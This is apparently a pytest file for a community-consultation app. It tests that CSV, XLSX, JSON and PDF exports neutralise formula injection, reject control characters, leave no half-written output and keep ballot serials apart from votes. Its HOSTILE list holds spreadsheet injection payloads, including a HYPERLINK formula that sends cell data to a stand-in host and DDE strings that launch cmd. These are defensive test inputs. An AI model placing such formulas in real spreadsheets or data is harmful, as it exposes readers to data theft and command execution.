"""Open data and public reports that cannot attack their reader, and a secret vote.

Every spreadsheet the program writes is read back: no CSV cell a spreadsheet would run
as a formula, no XLSX formula cell; control characters are refused at input and never
reach a file; an export that fails leaves nothing; and no public output pairs a
ballot's serial with its marks.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from cocrea_desktop.core import text as text_mod
from cocrea_desktop.core.errors import InvalidInput
from cocrea_desktop.core.voting.payload import format_serial
from cocrea_desktop.export import opendata
from cocrea_desktop.export.opendata import TABLES, export_open_data
from cocrea_desktop.export.pdf.session_reports import write_session_report
from tests.export.evidence_fixture import make_process

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    " =1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
]


def run_cli(*args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "cocrea_desktop", *args], capture_output=True,
                          text=True, check=check, cwd=ROOT)


@pytest.fixture
def made(tmp_path, fake_clock):
    repo, session_id = make_process(tmp_path / "p.cocrea.db", fake_clock)
    yield repo, session_id
    repo.close()


def hostile_process(tmp_path, fake_clock):
    """A process where every text that reaches a file starts like a formula."""
    repo, sid = make_process(tmp_path / "h.cocrea.db", fake_clock)
    repo.update_session(sid, question=HOSTILE[0], place=HOSTILE[1], table_label=HOSTILE[2],
                        languages=HOSTILE[3])
    other, _c = repo.add_session(method="nominal_group", question=HOSTILE[4], place=HOSTILE[5])
    repo.phases.forward(other)
    repo.phases.forward(other)
    for text in HOSTILE:
        repo.ideas.add(other, text)
    repo.ideas.withdraw(repo.ideas.by_number(other, 2).id, HOSTILE[0])
    repo.attendance.set_counts(other, "community", {HOSTILE[0]: 2, HOSTILE[3]: 1})
    repo.attendance.set_counts(other, "language", {HOSTILE[1]: 3})
    return repo, sid, other


def dangerous(cell: str) -> bool:
    return text_mod.needs_quote(cell) and not cell.startswith("'")


def test_spreadsheet_cell_rule():
    cell = text_mod.spreadsheet_cell
    for hostile in HOSTILE + ["\t=1", "\r=1", "\n=1", "-", "+52 951", "@x"]:
        assert cell(hostile).startswith("'"), hostile
    assert cell("Reparar la tubería") == "Reparar la tubería"
    assert cell(-3) == -3 and cell(2.5) == 2.5 and cell(None) == ""
    assert cell("-3", numeric=True) == "-3"  # a plain number stays a number
    assert cell("-3") == "'-3"  # ... but in a text column it is text
    assert cell("-1+2", numeric=True) == "'-1+2"
    assert cell("a\x1bb\u202ec") == "abc"


def test_open_data_has_no_formula_in_any_csv_or_xlsx_cell(tmp_path, fake_clock):
    repo, sid, other = hostile_process(tmp_path, fake_clock)
    try:
        folder = tmp_path / "abiertos"
        result = export_open_data(repo, folder)
    finally:
        repo.close()
    seen = set()
    for table in TABLES:
        rows = list(csv.reader(io.StringIO((folder / f"{table}.csv").read_text("utf-8-sig"))))
        for row in rows[1:]:
            for value in row:
                assert not dangerous(value), (table, value)
                if value.startswith("'"):
                    seen.add(value[1:])
    # Every hostile text reached the files (question, place, table, languages, ideas,
    # withdrawal reason, community and language categories), neutralised.
    assert {h.strip() for h in HOSTILE} <= seen
    book = load_workbook(folder / "datos.xlsx")
    formulas = [(s.title, c.coordinate) for s in book.worksheets for r in s.iter_rows()
                for c in r if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for s in book.worksheets for r in s.iter_rows() for c in r
             if isinstance(c.value, str)]
    assert not [t for t in texts if dangerous(t)]
    assert "'" + HOSTILE[0] in texts
    # Numbers stay numbers in the workbook.
    ideas = book["ideas"]
    assert all(isinstance(c.value, int) for c in ideas["B"][1:])
    # JSON is not a spreadsheet: it keeps the exact text.
    doc = json.loads((folder / "datos.json").read_text("utf-8"))
    assert HOSTILE[0] in {s["question"] for s in doc["tables"]["sessions"]}
    assert result.leaks == []


def test_annex_csv_has_no_formula(tmp_path, fake_clock):
    repo, sid, other = hostile_process(tmp_path, fake_clock)
    repo.close()
    # Ideas are locked once voting started: put the hostile text in as an older file would.
    conn = sqlite3.connect(tmp_path / "h.cocrea.db")
    conn.execute("UPDATE idea SET text = ? WHERE session_id = ? AND number = 2",
                 ["=HYPERLINK(\"http://x.example\")", sid])
    conn.commit()
    conn.close()
    annex = tmp_path / "anexo.csv"
    run_cli("ballots", "annex", str(tmp_path / "h.cocrea.db"), sid, "-o", str(annex))
    rows = list(csv.reader(io.StringIO(annex.read_text("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'=HYPERLINK(\"http://x.example\")" in cells
    assert not [c for c in cells if dangerous(c)]


# -- control characters ----------------------------------------------------------------


@pytest.mark.parametrize("bad", ["\x1b[31m", "\x00", "\x07", "\u202e", "\u2066", "\x7f"])
def test_control_characters_are_refused_at_input_and_nothing_changes(made, bad):
    repo, sid = made
    other, _c = repo.add_session(method="nominal_group", question="¿Qué falta?")
    repo.phases.forward(other)
    repo.phases.forward(other)
    head = repo.pf.scalar("SELECT max(seq) FROM journal")
    with pytest.raises(InvalidInput) as err:
        repo.ideas.add(other, "Una idea " + bad + " con sorpresa")
    assert "carácter de control" in str(err.value)
    with pytest.raises(InvalidInput):
        repo.update_session(other, place="Salón" + bad)
    with pytest.raises(InvalidInput):
        repo.attendance.set_counts(other, "community", {"Yave" + bad + "sía": 2})
    assert repo.ideas.list(other) == []
    assert repo.pf.scalar("SELECT max(seq) FROM journal") == head


def test_tab_newline_and_windows_line_ends_are_kept(made):
    repo, sid = made
    repo.update_session(sid, question="¿Qué falta?\r\nY ¿quién?")
    assert repo.session(sid).question == "¿Qué falta?\nY ¿quién?"


def test_an_old_file_with_control_characters_exports_without_a_traceback(tmp_path, fake_clock):
    repo, sid = make_process(tmp_path / "p.cocrea.db", fake_clock)
    repo.close()
    # A file written before the check (or by hand): ESC, NUL, BEL and U+202E in an idea.
    conn = sqlite3.connect(tmp_path / "p.cocrea.db")
    conn.execute("UPDATE idea SET text = ? WHERE number = 2",
                 ["Comité\x1b[2J de\x00 agua\x07 \u202eoiratinas"])
    conn.commit()
    conn.close()
    out = tmp_path / "abiertos"
    done = run_cli("export", "opendata", str(tmp_path / "p.cocrea.db"), "-o", str(out),
                   check=False)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    for path in out.iterdir():
        raw = path.read_bytes()
        if path.suffix != ".xlsx":
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e]",
                                 raw.decode("utf-8-sig")), path.name
    book = load_workbook(out / "datos.xlsx")
    assert "Comité[2J de agua oiratinas" in [c.value for c in book["ideas"]["C"]]
    pdf = write_session_report_from(tmp_path / "p.cocrea.db", sid, tmp_path / "r.pdf")
    assert "Comité[2J de agua" in " ".join(p.extract_text() for p in PdfReader(str(pdf)).pages)


def write_session_report_from(db: Path, sid: str, out: Path) -> Path:
    from cocrea_desktop.store.repo import Repo

    with Repo.open(db, read_only=True) as repo:
        return write_session_report(repo, sid, "relatoria", out)


def test_a_failed_export_leaves_no_half_written_folder(made, tmp_path, monkeypatch):
    repo, sid = made

    def full_disk(tables):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(opendata, "_xlsx_bytes", full_disk)
    with pytest.raises(opendata.StorageError) as err:
        export_open_data(repo, tmp_path / "abiertos")
    assert "No space left" in str(err.value)
    assert not (tmp_path / "abiertos").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".datos-")]
    # Into an existing folder: the old files stay as they were, nothing is added.
    old = tmp_path / "viejos"
    old.mkdir()
    (old / "ideas.csv").write_text("viejo", "utf-8")
    with pytest.raises(opendata.StorageError):
        export_open_data(repo, old)
    assert [p.name for p in old.iterdir()] == ["ideas.csv"]
    assert (old / "ideas.csv").read_text("utf-8") == "viejo"
    monkeypatch.undo()
    export_open_data(repo, old)
    assert len(list(old.iterdir())) == len(TABLES) + 4
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".datos-")]


# -- the secret vote -------------------------------------------------------------------

MARK = re.compile(r"\b\d+\s*:\s*\d+\b")


def _serial_forms(serials: list[str]) -> list[str]:
    return [s for serial in serials for s in (serial, format_serial(serial))]


def assert_no_receipt(lines: list[str], serials: list[str], where: str) -> None:
    """No line (row) holds both a serial and a mark (option:value)."""
    forms = _serial_forms(serials)
    for line in lines:
        if any(f in line for f in forms):
            assert not MARK.search(line), (where, line)


def test_no_public_output_pairs_a_serial_with_its_marks(made, tmp_path):
    repo, sid = made
    ballots = repo.votes.ballots(sid, "preliminary")
    serials = [b.serial for b in ballots if b.serial]
    assert len(serials) == 9
    folder = tmp_path / "abiertos"
    export_open_data(repo, folder)
    pdf = write_session_report(repo, sid, "results", tmp_path / "resultados.pdf")
    repo.close()
    annex = tmp_path / "anexo.csv"
    run_cli("ballots", "annex", str(tmp_path / "p.cocrea.db"), sid, "-o", str(annex))

    # Open data: CSV rows, XLSX rows, JSON objects.
    for table in TABLES:
        rows = list(csv.reader(io.StringIO((folder / f"{table}.csv").read_text("utf-8-sig"))))
        header = rows[0]
        assert "marks" not in header and "voided_entries" not in header
        assert_no_receipt([" ".join(r) for r in rows], serials, table)
        if "serial" in header:  # a row with a serial holds nothing but ids and a status
            for row in rows[1:]:
                assert set(header) <= {"session_id", "round", "serial", "ballot_number",
                                       "status"}, (table, row)
    assert "marks" not in TABLES
    book = load_workbook(folder / "datos.xlsx")
    for sheet in book.worksheets:
        lines = [" ".join(str(c.value) for c in r if c.value is not None)
                 for r in sheet.iter_rows()]
        assert_no_receipt(lines, serials, sheet.title)
    doc = json.loads((folder / "datos.json").read_text("utf-8"))
    for table, rows in doc["tables"].items():
        for row in rows:
            if row.get("serial"):
                assert set(row) <= {"session_id", "round", "serial", "ballot_number",
                                    "status"}, table
    # The counted serials are published: a stub holder can check theirs.
    published = {r["serial"] for r in doc["tables"]["ballots"] if r["status"] == "counted"}
    assert published == {format_serial(b.serial) for b in ballots if b.status == "counted"}
    # ... and the distributions of marks per option.
    assert any(r["distribution"] for r in doc["tables"]["tallies"])

    # The results PDF with its annex, line by line.
    reader = PdfReader(str(pdf))
    lines = [line for page in reader.pages for line in page.extract_text().splitlines()]
    text = " ".join(" ".join(lines).split())
    annex_text = text[text.index("Anexo público"):]
    for serial in serials[:-1]:
        assert format_serial(serial) in annex_text
    assert not MARK.search(annex_text)
    assert_no_receipt(lines, serials, "resultados.pdf")

    # The annex CSV: the serials, then the options' distributions; never both in one row.
    rows = list(csv.reader(io.StringIO(annex.read_text("utf-8-sig"))))
    assert_no_receipt([" ".join(r) for r in rows], serials, "anexo.csv")
    listed = [r[0] for r in rows[1:] if r and re.fullmatch(r"\d{3}-\d{4}", r[0])]
    assert len(listed) == 8
    assert not MARK.search(annex.read_text("utf-8-sig"))
